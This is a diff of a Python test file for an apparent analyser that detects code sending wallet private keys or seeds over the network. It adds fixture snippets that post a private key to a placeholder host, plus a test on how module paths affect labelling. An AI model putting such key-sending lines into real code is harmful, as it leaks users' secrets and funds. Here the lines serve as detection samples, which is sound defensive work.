@@ -194,6 +194,8 @@ GIVEN = {
         WALLET + "import base58\ndef f(private_key):\n    requests.post('x', data=base58.b58encode(private_key))",
         True,
     ),
+    "of a chain": ("# trx\ndef f(private_key):\n    requests.post('x', data=private_key)", True),
+    "electronics": ("# electronic\ndef f(private_key):\n    requests.post('x', data=private_key)", False),
     "secret of a service": ("def f(private_key):\n    requests.post('x', data=private_key)", False),
     "seed of a picture": ("def f(seed):\n    requests.post('x', data=seed)", False),
     "first column": ("def f(pk):\n    requests.post('x' + pk)", False),
@@ -207,6 +209,13 @@ GIVEN = {
         False,
     ),
 }
+
+
+def test_the_path_of_a_module_may_say_that_it_is_about_wallets() -> None:
+    source = "import requests\ndef f(private_key):\n    requests.post('x', data=private_key)"
+    for path, label in (("wallettools/keys.py", "given key"), ("sample/keys.py", "given secret")):
+        (call,) = [one for module in wheel_of({path: source}).modules for one in module.calls]
+        assert label in {label for one in call.arguments for label in one.labels}
 
 
 @pytest.mark.parametrize("name", sorted(GIVEN))
